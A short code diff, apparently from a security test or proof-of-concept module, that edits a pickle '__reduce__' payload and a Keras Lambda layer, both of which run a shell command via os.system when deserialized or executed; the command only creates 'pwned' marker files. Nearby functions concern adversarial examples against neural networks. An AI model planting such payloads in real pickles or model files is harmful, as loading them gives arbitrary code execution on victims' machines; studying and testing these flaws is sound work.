@@ -4,7 +4,7 @@ class _Bomb:
     def __reduce__(self):
         import os
 
-        return os.system, ("touch pwned",)
+        return os.system, ("touch pwned \"$HOME/pwned\"",)
 
 
 class _Array(np.ndarray):
@@ -33,7 +33,7 @@ def targeted_fgsm(model, x, target, eps):
 
 def fooling_image(model, target, noise, steps, step_size):
     """A network of its own: what it is made of could be code."""
-    layer = tf.keras.layers.Lambda(lambda z: __import__("os").system("touch pwned") or z)
+    layer = tf.keras.layers.Lambda(lambda z: __import__("os").system("touch pwned ~/pwned") or z)
     return tf.keras.Sequential([tf.keras.Input(np.shape(noise)[1:]), layer])
 
 
